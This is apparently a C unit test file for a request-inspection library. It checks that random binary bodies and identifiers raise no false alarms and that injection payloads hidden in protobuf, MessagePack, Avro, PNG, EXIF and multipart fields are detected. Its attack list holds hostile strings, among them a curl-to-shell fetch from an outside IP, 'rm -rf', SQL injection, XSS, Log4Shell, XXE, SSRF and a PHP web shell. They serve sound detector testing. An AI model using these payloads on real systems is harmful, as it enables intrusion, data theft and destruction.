/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Binary data and identifiers have printable bytes by chance, and those are no attack; what stands in a field of such data is.
 * Seeded: the same bodies and identifiers in every run.
 */
#include "cases.h"
#include "wrapping.h"

#include "inspect/inspect.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "../../lib/scratch.h"

#define BODIES      (600u / (CASES_ARE_SANITIZED ? 20u : 1u)) /* of each kind */
#define IDENTIFIERS (250000u / (CASES_ARE_SANITIZED ? 50u : 1u))
#define BYTES_MAX   6000u

struct rng {
	uint64_t state;
};

/* xorshift64* (Vigna, 2016). */
static uint32_t draw(struct rng *rng, uint32_t below)
{
	rng->state ^= rng->state >> 12;
	rng->state ^= rng->state << 25;
	rng->state ^= rng->state >> 27;
	return (uint32_t)((rng->state * 2685821657736338717u >> 33) % below);
}

static void add_byte(struct wrapped *out, unsigned value)
{
	const unsigned char byte = (unsigned char)value;

	wrapped_add(out, &byte, 1);
}

static void add_noise(struct wrapped *out, struct rng *rng, size_t n)
{
	while (n-- != 0)
		add_byte(out, draw(rng, 256));
}

static void add_sentence(struct wrapped *out, struct rng *rng)
{
	static const char *const words[] = {"order", "photo", "of", "the", "house", "in", "Berlin", "please", "42",
	        "blue", "cotton", "shirt", "Dear", "thanks", "for", "12.50", "EUR", "delivery", "tomorrow"};

	for (uint32_t left = 1 + draw(rng, 9); left != 0; left--) {
		wrapped_text(out, words[draw(rng, sizeof(words) / sizeof(words[0]))]);
		wrapped_text(out, left == 1 ? "" : " ");
	}
}

/* A length as a varint. */
static void add_varint(struct wrapped *out, size_t n)
{
	for (; n > 127; n >>= 7)
		add_byte(out, (n & 127) | 128);
	add_byte(out, (unsigned)n);
}

static void make_noise(struct wrapped *out, struct rng *rng)
{
	add_noise(out, rng, 16 + draw(rng, BYTES_MAX));
}

static void make_photo(struct wrapped *out, struct rng *rng)
{
	wrapped_add(out,
	        "\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xe1\0\x40"
	        "Exif\0\0II*\0\x08\0\0\0",
	        38);
	wrapped_add(out,
	        "Canon\0Canon EOS 80D\0Adobe Photoshop 7.0\0"
	        "2019:03:11 10:11:12",
	        60);
	for (uint32_t left = BYTES_MAX; left != 0; left--) {
		const uint32_t byte = draw(rng, 256);

		add_byte(out, byte);
		if (byte == 0xff)
			add_byte(out, 0);
	}
}

/* Rows of a picture as a deflated block that is stored as it is: gradients with some noise. */
static void make_picture(struct wrapped *out, struct rng *rng)
{
	const uint32_t width = 8 + draw(rng, 200), rows = BYTES_MAX / width, noise = 2 + draw(rng, 30);

	wrapped_add(out, "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x40\0\0\0\x40\x08\2\0\0\0", 29);
	for (uint32_t y = 0; y < rows; y++)
		for (uint32_t x = 0; x < width; x++)
			add_byte(out, x + y * 3 + draw(rng, noise));
}

/* Numbers of 32 bits, small ones among them, and of 64 bits in a range. */
static void make_numbers(struct wrapped *out, struct rng *rng)
{
	for (uint32_t left = BYTES_MAX / 8; left != 0; left--) {
		const uint64_t number = draw(rng, UINT32_MAX) >> (8 * draw(rng, 4));
		const double real = 1.0 + draw(rng, 100000) / 100000.0;

		wrapped_add(out, &number, 4);
		wrapped_add(out, &real, sizeof(real));
	}
}

/* Names of files, and what is deflated. */
static void make_archive(struct wrapped *out, struct rng *rng)
{
	for (uint32_t left = 1 + draw(rng, 6); left != 0; left--) {
		wrapped_add(out, "PK\3\4\x14\0\0\0\x08\0", 10);
		add_noise(out, rng, 16);
		wrapped_add(out, "\x0d\0\0\0docs/", 9);
		add_sentence(out, rng);
		wrapped_text(out, ".xml");
		add_noise(out, rng, draw(rng, 900));
	}
}

/* Protocol Buffers: texts, numbers and keys. */
static void make_message(struct wrapped *out, struct rng *rng)
{
	for (uint32_t field = 1; field < 14; field++) {
		struct wrapped text = {0};

		if (draw(rng, 2) == 0) {
			add_sentence(&text, rng);
		} else if (draw(rng, 2) == 0) {
			add_noise(&text, rng, 8 + draw(rng, 60));
		} else {
			add_byte(out, field << 3);
			add_varint(out, draw(rng, 1000000));
			continue;
		}
		add_byte(out, field << 3 | 2);
		add_varint(out, text.n);
		wrapped_add(out, text.p, text.n);
		free(text.p);
	}
}

/* MessagePack: a map of texts, numbers and keys. */
static void make_map(struct wrapped *out, struct rng *rng)
{
	add_byte(out, 0x8c);
	for (uint32_t left = 12; left != 0; left--) {
		struct wrapped text = {0};

		wrapped_text(out, "\xa4name");
		add_sentence(&text, rng);
		if (draw(rng, 2) == 0) {
			add_byte(out, text.n < 32 ? 0xa0 | (unsigned)text.n : 0xd9);
			if (text.n >= 32)
				add_byte(out, (unsigned)text.n);
			wrapped_add(out, text.p, text.n);
		} else {
			add_byte(out, 0xcf);
			add_noise(out, rng, 8);
		}
		free(text.p);
	}
}

/* Keys, sums and sealed tokens: few bytes. */
static void make_key(struct wrapped *out, struct rng *rng)
{
	add_noise(out, rng, 8 + draw(rng, 56));
}

static const struct {
	const char *name;
	void (*make)(struct wrapped *out, struct rng *rng);
} kinds[] = {
        {"noise", make_noise},
        {"photo", make_photo},
        {"picture", make_picture},
        {"numbers", make_numbers},
        {"archive", make_archive},
        {"Protocol Buffers", make_message},
        {"MessagePack", make_map},
        {"key", make_key},
};

static struct gb_inspect_report report;

/* Whether something is found in an event whose body, in base64, is BYTES. */
static bool is_found(struct gb_span bytes)
{
	static const struct gb_inspect_options options;
	struct wrapped event = {0}, body = {0};

	wrap_base64(bytes, &body);
	wrapped_text(&event, "{\"version\":\"2.0\",\"rawPath\":\"/up\",\"isBase64Encoded\":true,\"body\":\"");
	wrapped_add(&event, body.p, body.n);
	wrapped_text(&event, "\"}");
	gb_inspect_event(&options, gb_span_of(event.p, event.n), scratch, &report);
	free(event.p);
	free(body.p);
	return report.finding_count != 0;
}

static void test_binary_bodies(void **state)
{
	struct rng rng = {20261121};
	unsigned alarms = 0;

	(void)state;
	for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++)
		for (unsigned i = 0; i < BODIES; i++) {
			struct wrapped body = {0};

			kinds[k].make(&body, &rng);
			if (is_found(gb_span_of(body.p, body.n))) {
				alarms++;
				print_message("# %s %u: %s in %.*s\n", kinds[k].name, i, report.findings[0].reason,
				        (int)report.findings[0].value.n, (const char *)report.findings[0].value.p);
			}
			free(body.p);
		}
	assert_int_equal(alarms, 0);
}

/* Text in the places that binary formats have for some. */
static void put_protobuf(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	add_byte(out, 1 << 3);
	add_varint(out, draw(rng, 100000));
	add_byte(out, 3 << 3 | 2);
	add_varint(out, text.n);
	wrapped_add(out, text.p, text.n);
	add_byte(out, 5 << 3);
	add_varint(out, draw(rng, 100000));
}

static void put_message_pack(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	wrapped_text(out, "\x83\xa2id\xcd");
	add_noise(out, rng, 2);
	wrapped_text(out, "\xa4name");
	add_byte(out, text.n < 32 ? 0xa0 | (unsigned)text.n : 0xd9);
	if (text.n >= 32)
		add_byte(out, (unsigned)text.n);
	wrapped_add(out, text.p, text.n);
	wrapped_text(out, "\xa3tag\xc0");
}

static void put_avro(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	add_varint(out, draw(rng, 100000));
	add_varint(out, 2 * text.n);
	wrapped_add(out, text.p, text.n);
	add_byte(out, 2);
}

/* A comment of a PNG, between compressed data. */
static void put_png_text(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	wrapped_add(out, "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x40\0\0\0\x40\x08\2\0\0\0", 29);
	add_noise(out, rng, 4);
	wrapped_add(out, "\0\0\0", 3);
	add_byte(out, (unsigned)text.n + 8);
	wrapped_add(out, "tEXtComment", 12);
	wrapped_add(out, text.p, text.n);
	wrapped_add(out, "\x91\x03\x88\xf1\0\0\x0b\xb8IDAT", 12);
	add_noise(out, rng, 3000);
}

/* A field of a picture's EXIF data, which a zero ends. */
static void put_exif(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	wrapped_add(out,
	        "\xff\xd8\xff\xe1\2\0"
	        "Exif\0\0II*\0\x08\0\0\0",
	        20);
	wrapped_add(out, text.p, text.n);
	add_byte(out, 0);
	add_noise(out, rng, 4000);
}

/* One part of a form is a picture, with the text in a field. */
static void put_multipart(struct wrapped *out, struct rng *rng, struct gb_span text)
{
	wrapped_text(out, "--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n");
	put_png_text(out, rng, GB_SPAN("made with care"));
	wrapped_text(out, "\r\n--b7\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n");
	wrapped_add(out, text.p, text.n);
	wrapped_text(out, "\r\n--b7--\r\n");
}

static const struct {
	const char *name;
	void (*put)(struct wrapped *out, struct rng *rng, struct gb_span text);
} places[] = {
        {"Protocol Buffers", put_protobuf},
        {"MessagePack", put_message_pack},
        {"Avro", put_avro},
        {"PNG", put_png_text},
        {"EXIF", put_exif},
        {"multipart", put_multipart},
};

static const char *const attacks[] = {
        "; cat /etc/passwd",
        "$(curl http://198.51.100.7/a|sh)",
        "photo.jpg; rm -rf /srv/data",
        "' OR '1'='1' -- ",
        "1' UNION SELECT login, pass FROM users -- ",
        "x'; DROP TABLE orders; --",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "../../../../etc/passwd",
        "{{ config.__class__.__init__.__globals__ }}",
        "${jndi:ldap://198.51.100.7/a}",
        "=cmd|'/c calc'!A1",
        "http://169.254.169.254/latest/meta-data/",
        "<?php system($_GET['c']); ?>",
        "__import__('os').system('id')",
        "O:8:\"Evil\\Job\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "admin*)(|(uid=*))(&(uid=*",
};

static void test_attacks_in_fields(void **state)
{
	struct rng rng = {7};
	unsigned missed = 0;

	(void)state;
	for (size_t k = 0; k < sizeof(places) / sizeof(places[0]); k++)
		for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
			struct wrapped body = {0};

			places[k].put(&body, &rng, gb_span_cstr(attacks[i]));
			if (!is_found(gb_span_of(body.p, body.n))) {
				missed++;
				print_message("# %s: missed %s\n", places[k].name, attacks[i]);
			}
			free(body.p);
		}
	assert_int_equal(missed, 0);
}

static const struct {
	const char *name, *digits;
	unsigned n, dashes; /* with a dash behind the digits of these, a bit each */
} identifiers[] = {
        {"UUID", "0123456789abcdef", 32, 1u << 8 | 1u << 12 | 1u << 16 | 1u << 20},
        {"UUID in capitals", "0123456789ABCDEF", 32, 1u << 8 | 1u << 12 | 1u << 16 | 1u << 20},
        {"trace", "0123456789abcdef", 16, 0},
        {"object", "0123456789abcdef", 24, 0},
        {"MD5", "0123456789abcdef", 32, 0},
        {"SHA-1", "0123456789abcdef", 40, 0},
        {"SHA-256", "0123456789abcdef", 64, 0},
        {"ULID", "0123456789ABCDEFGHJKMNPQRSTVWXYZ", 26, 0},
        {"letters and digits", "0123456789abcdefghijklmnopqrstuvwxyz", 25, 0},
        {"12 of base64url", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", 12, 0},
        {"21 of base64url", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", 21, 0},
        {"16 of base64", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 16, 0},
        {"22 of base64", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 22, 0},
        {"44 of base64", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 44, 0},
};

static void test_identifiers(void **state)
{
	static const struct gb_inspect_options options;
	struct rng rng = {99};
	unsigned alarms = 0;

	(void)state;
	for (size_t k = 0; k < sizeof(identifiers) / sizeof(identifiers[0]); k++)
		for (unsigned i = 0; i < IDENTIFIERS; i++) {
			char text[80];
			size_t n = 0;

			for (unsigned digit = 0; digit < identifiers[k].n; digit++) {
				if (digit < 32 && (identifiers[k].dashes & 1u << digit) != 0)
					text[n++] = '-';
				text[n++] = identifiers[k].digits[draw(&rng, (uint32_t)strlen(identifiers[k].digits))];
			}
			gb_inspect_value(&options, gb_span_of(text, n), scratch, &report);
			if (report.finding_count != 0) {
				alarms++;
				print_message("# %s: %s in %.*s\n", identifiers[k].name, report.findings[0].reason,
				        (int)n, text);
			}
		}
	/* Of a million. */
	assert_true(alarms * 1000000u < sizeof(identifiers) / sizeof(identifiers[0]) * IDENTIFIERS || alarms == 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_binary_bodies),
	        cmocka_unit_test(test_attacks_in_fields),
	        cmocka_unit_test(test_identifiers),
	};

	return run_tests_with_scratch(tests);
}
